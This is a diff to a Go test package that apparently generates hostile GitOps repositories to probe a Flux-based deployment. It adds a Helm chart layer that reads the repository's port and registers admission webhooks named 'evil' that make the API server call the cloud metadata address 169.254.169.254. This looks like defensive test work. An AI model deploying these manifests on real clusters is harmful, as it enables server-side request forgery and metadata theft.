@@ -1,6 +1,7 @@
 package hostile
 
 import (
+	"cmp"
 	"fmt"
 	"os"
 	"os/exec"
@@ -11,7 +12,8 @@ import (
 
 // repos write a repo into a new folder: one that tries each way, and one with a few.
 var repos = map[string]func(dir string) error{
-	"all": func(dir string) error { return reaching(dir, layers()) },
+	"all":    func(dir string) error { return reaching(dir, layers()) },
+	"egress": func(dir string) error { return reaching(dir, egress()) },
 	"few": func(dir string) error {
 		return reaching(dir, slices.DeleteFunc(layers(), func(l layer) bool {
 			return !slices.Contains([]string{"fetch-absolute-4", "fetch-absolute-5", "fetch-http-loopback", "source-git"}, l.name)
@@ -25,6 +27,8 @@ type layer struct {
 	files map[string]string
 	// allowed says that the layer may reconcile: what it tries is refused silently.
 	allowed bool
+	// after is the layer that it waits for; empty: base.
+	after string
 }
 
 // app is a Carvel App in the namespace hostile.
@@ -146,6 +150,40 @@ spec:
 	return out
 }
 
+// egress are layers that learn the run's ports, which programs may connect to, and
+// have the API server call them at another address.
+func egress() []layer {
+	return []layer{
+		{name: "port", files: map[string]string{
+			"kustomization.yaml": "resources: [release.yaml]\n",
+			"release.yaml": `apiVersion: helm.toolkit.fluxcd.io/v2
+kind: HelmRelease
+metadata: {name: port, namespace: flux-system}
+spec: {interval: 1m, chart: {spec: {chart: ./layers/port/chart, sourceRef: {kind: GitRepository, name: flux-system}}}}
+`,
+			"chart/Chart.yaml": "apiVersion: v2\nname: port\nversion: 1.0.0\n",
+			"chart/templates/webhook.yaml": `{{- $url := (lookup "source.toolkit.fluxcd.io/v1" "GitRepository" "flux-system" "flux-system").spec.url }}
+{{- $port := int (regexFind "[0-9]{4,5}" (trimPrefix "http://127.0.0.1:" $url)) }}
+{{- range $i := until 8 }}
+---
+apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingWebhookConfiguration
+metadata: {name: evil-{{ $i }}}
+webhooks:
+- name: evil.hostile.example
+  failurePolicy: Ignore
+  sideEffects: None
+  admissionReviewVersions: [v1]
+  timeoutSeconds: 1
+  clientConfig: {url: "https://169.254.169.254:{{ sub $port $i }}/"}
+  rules: [{apiGroups: [""], apiVersions: ["*"], operations: ["*"], resources: ["configmaps"]}]
+{{- end }}
+`,
+		}},
+		{name: "later", after: "port", files: map[string]string{"later.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: later, namespace: hostile}\n"}},
+	}
+}
+
 // reaching is a repo that wants the machine: a layer for each way, and a
 // configuration of Git that would run programs.
 func reaching(dir string, layers []layer) error {
@@ -171,7 +209,7 @@ subjects: [{kind: ServiceAccount, name: hostile, namespace: hostile}]
 		for name, text := range l.files {
 			files["layers/"+l.name+"/"+name] = text
 		}
-		files["clusters/prod/"+l.name+".yaml"] = kustomization(l.name, "base")
+		files["clusters/prod/"+l.name+".yaml"] = kustomization(l.name, cmp.Or(l.after, "base"))
 	}
 	for name, text := range files {
 		file := filepath.Join(dir, name)
@@ -210,7 +248,7 @@ subjects: [{kind: ServiceAccount, name: hostile, namespace: hostile}]
 
 func kustomization(name, dependsOn string) string {
 	if dependsOn != "" {
-		dependsOn = "  dependsOn: [{name: " + dependsOn + "}]\n"
+		dependsOn = "  wait: true\n  dependsOn: [{name: " + dependsOn + "}]\n"
 	}
 	return fmt.Sprintf(`apiVersion: kustomize.toolkit.fluxcd.io/v1
 kind: Kustomization
